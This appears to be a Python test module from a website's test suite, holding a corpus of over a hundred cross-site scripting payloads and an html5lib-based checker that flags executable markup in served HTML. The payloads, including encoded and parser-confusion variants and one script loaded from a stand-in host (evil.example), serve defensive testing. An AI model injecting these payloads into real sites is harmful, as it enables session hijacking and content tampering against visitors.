"""A corpus of cross-site scripting payloads and a checker for the HTML our pages serve.

Each payload, if it ever ran, would call `xss()` (or set `location`); the checker does not rely
on that: it parses a page and reports any markup through which script could run — an inline
script, an event-handler attribute, a `javascript:`/`data:` URL, an embedding element, a style
attribute — so a payload that slipped through unescaped is found even where CSP would block it.
"""

import re
import xml.etree.ElementTree as ET

import html5lib

_BASE = [
    "<script>xss(1)</script>",
    "<SCRIPT>xss(2)</SCRIPT>",
    "<ScRiPt>xss(3)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>/*</script><script>*/xss(5)</script>",
    '"><script>xss(6)</script>',
    "'><script>xss(7)</script>",
    "</textarea><script>xss(8)</script>",
    "</title><script>xss(9)</script>",
    "</style><script>xss(10)</script>",
    "<img src=x onerror=xss(11)>",
    '<img src="x" onerror="xss(12)">',
    "<IMG SRC=x OnErRoR=xss(13)>",
    "<img src=x onerror=&#120;&#115;&#115;(14)>",
    "<img src=`x` onerror=xss(15)>",
    "<img/src=x/onerror=xss(16)>",
    "<image src=x onerror=xss(17)>",
    "<svg onload=xss(18)>",
    "<svg/onload=xss(19)>",
    "<svg><script>xss(20)</script></svg>",
    "<svg><a xlink:href=javascript:xss(21)><text x=0 y=20>x</text></a></svg>",
    "<svg><animate onbegin=xss(22) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=xss(23)>",
    "<math><mtext><script>xss(24)</script></mtext></math>",
    "<body onload=xss(25)>",
    "<iframe src=javascript:xss(26)></iframe>",
    "<iframe srcdoc='<script>xss(27)</script>'></iframe>",
    "<iframe src=data:text/html,<script>xss(28)</script>></iframe>",
    "<object data=javascript:xss(29)></object>",
    "<embed src=javascript:xss(30)>",
    '<a href="javascript:xss(31)">klik</a>',
    '<a href="JaVaScRiPt:xss(32)">klik</a>',
    '<a href="  javascript:xss(33)">klik</a>',
    '<a href="java&#x09;script:xss(34)">klik</a>',
    '<a href="java\tscript:xss(35)">klik</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss(36)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD54c3MoMzcpPC9zY3JpcHQ+">klik</a>',
    '<a href="vbscript:xss(38)">klik</a>',
    "<a href=javascript&colon;xss(39)>klik</a>",
    '<a href="#" onclick="xss(40)">klik</a>',
    "<div onmouseover=xss(41)>hold musen her</div>",
    "<p onfocus=xss(42) tabindex=0 autofocus>x</p>",
    "<input onfocus=xss(43) autofocus>",
    "<input type=image src=x onerror=xss(44)>",
    "<button formaction=javascript:xss(45)>x</button>",
    "<form action=javascript:xss(46)><button>x</button></form>",
    "<details open ontoggle=xss(47)>",
    "<select onchange=xss(48)><option>a</option></select>",
    "<textarea onfocus=xss(49) autofocus>x</textarea>",
    "<video><source onerror=xss(50)></video>",
    "<audio src=x onerror=xss(51)>",
    "<marquee onstart=xss(52)>x</marquee>",
    "<table background=javascript:xss(53)>",
    "<td background=javascript:xss(54)>",
    '<div style="background:url(javascript:xss(55))">x</div>',
    '<div style="width:expression(xss(56))">x</div>',
    "<div style=\"behavior:url('x.htc')\">57</div>",
    "<style>@import 'javascript:xss(58)';</style>",
    "<style>body{background:url(javascript:xss(59))}</style>",
    '<link rel=stylesheet href="javascript:xss(60)">',
    "<meta http-equiv=refresh content='0;url=javascript:xss(61)'>",
    "<base href=javascript:xss(62)//>",
    '<form><input name="__proto__" value=63></form>',
    "<isindex action=javascript:xss(64) type=image>",
    "<frameset onload=xss(65)>",
    "<keygen autofocus onfocus=xss(66)>",
    "<x onclick=xss(67)>klik</x>",
    '<noscript><p title="</noscript><img src=x onerror=xss(68)>">',
    "<!--<img src=x onerror=xss(69)>-->",
    "<![CDATA[<script>xss(70)</script>]]>",
    "<?xml version=1.0?><script>xss(71)</script>",
    "<scr<script>ipt>xss(72)</scr</script>ipt>",
    "<<script>script>xss(73)<</script>/script>",
    "<img src=x:xss(74) onerror=eval(src)>",
    '<img src="x" alt="" onerror="xss(75)"/>',
    '"onmouseover="xss(76)',
    "' onmouseover='xss(77)",
    '" autofocus onfocus="xss(78)',
    "javascript:xss(79)",
    "data:text/html,<script>xss(80)</script>",
    "{{ xss(81) }}",
    "{% debug %}",
    "${xss(83)}",
    "#{xss(84)}",
    "<%= xss(85) %>",
    "%3Cscript%3Exss(86)%3C/script%3E",
    "&lt;script&gt;xss(87)&lt;/script&gt;",
    "\\u003cscript\\u003exss(88)\\u003c/script\\u003e",
    "<script>xss`89`</script>",
    "<svg><style>{}</style><img src=x onerror=xss(90)>",
    "<math><style><img src=x onerror=xss(91)></style></math>",
    '<a href="https://ishoj.dk" onclick="xss(92)">ok</a>',
    "<p>Høringssvar</p><img src=x onerror=xss(93)>",
    "<h2 onclick=xss(94)>Formål</h2>",
    "<table><tr><td onmouseover=xss(95)>celle</td></tr></table>",
    "<ul><li onclick=xss(96)>punkt</li></ul>",
    "<strong onmouseover=xss(97)>fed</strong>",
    "<blockquote cite=javascript:xss(98)>citat</blockquote>",
    "<a href=mailto:x@example.org onclick=xss(99)>mail</a>",
    '<img srcset="x 1x, javascript:xss(100) 2x">',
    "<picture><source srcset=x onerror=xss(101)></picture>",
    "<object type=image/svg+xml data=data:image/svg+xml,<svg/onload=xss(102)>></object>",
    '<a href="\u0000javascript:xss(103)">nul</a>',
    '<a href="&NewLine;javascript:xss(104)">nl</a>',
    "<img src=x onerror=\u2028xss(105)>",
    "<ſcript>xss(106)</ſcript>",
    "<script>xss(107)</script>" * 3,
    "😀<script>xss(108)</script>",
    "<a href='jav&#x0A;ascript:xss(109)'>x</a>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x></use></svg>",
]

#: At least 100 payloads: script tags, event handlers, javascript:/data: URLs, SVG and MathML,
#: style tricks, mixed case, encoded and broken-up variants.
PAYLOADS: list[str] = _BASE

_URL_ATTRIBUTES = {"href", "src", "action", "formaction", "background", "data", "srcset",
                   "poster", "cite", "codebase", "dynsrc", "lowsrc"}  # fmt: skip
_EMBEDDING = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "isindex"}
_DATA_SCRIPT_TYPES = {"application/json", "application/ld+json"}
_DANGEROUS_SCHEME = re.compile(r"^\s*(javascript|vbscript|data)\s*:", re.I)


def _scheme_of(value: str) -> str:
    return re.sub(r"[\x00-\x20]", "", value)


def _local(name: str) -> str:
    return name.rsplit("}", 1)[-1].lower()


def executable_markup(html: str, *, own_static_prefix: str = "/static/") -> list[str]:
    """Everything in `html` through which script could run; empty for a clean page.

    Parsed with html5lib, which builds the same tree a browser does.
    """
    if not html.strip():
        return []
    document = html5lib.parse(html, namespaceHTMLElements=False)
    problems = []
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        tag = _local(element.tag)
        attributes = {_local(name): value for name, value in element.attrib.items()}
        if tag == "script" and attributes.get("type", "").lower() in _DATA_SCRIPT_TYPES:
            pass  # a data block (`json_script`) never runs; a breakout would end it early
        elif tag == "script":
            src = attributes.get("src", "")
            if not src.startswith(own_static_prefix) or (element.text or "").strip():
                problems.append(f"<script src={src!r}> {(element.text or '')[:60]!r}")
        if tag in _EMBEDDING:
            problems.append(f"<{tag}>")
        if tag == "meta" and attributes.get("http-equiv", "").lower() == "refresh":
            problems.append("<meta http-equiv=refresh>")
        if tag == "noscript" and "xss" in ET.tostring(element, encoding="unicode"):
            # Browsers with scripting on read <noscript> as raw text up to </noscript>, so
            # markup hidden in it can come alive; html5lib parses it with scripting off.
            problems.append("<noscript> with a payload")
        if tag == "style" and "xss" in (element.text or ""):
            problems.append("<style> with a payload")
        if tag in {"set", "animate", "animatetransform"} and re.match(
            r"^(on|href)", attributes.get("attributename", ""), re.I
        ):
            problems.append(f"<{tag} attributeName={attributes['attributename']!r}>")
        for name, value in attributes.items():
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=...>")
            elif name == "style":
                problems.append(f"<{tag} style={value[:40]!r}>")
            elif name in _URL_ATTRIBUTES and (
                _DANGEROUS_SCHEME.match(_scheme_of(value))
                or (name == "srcset" and "javascript:" in value.lower())
            ):
                problems.append(f"<{tag} {name}={value[:40]!r}>")
    return problems
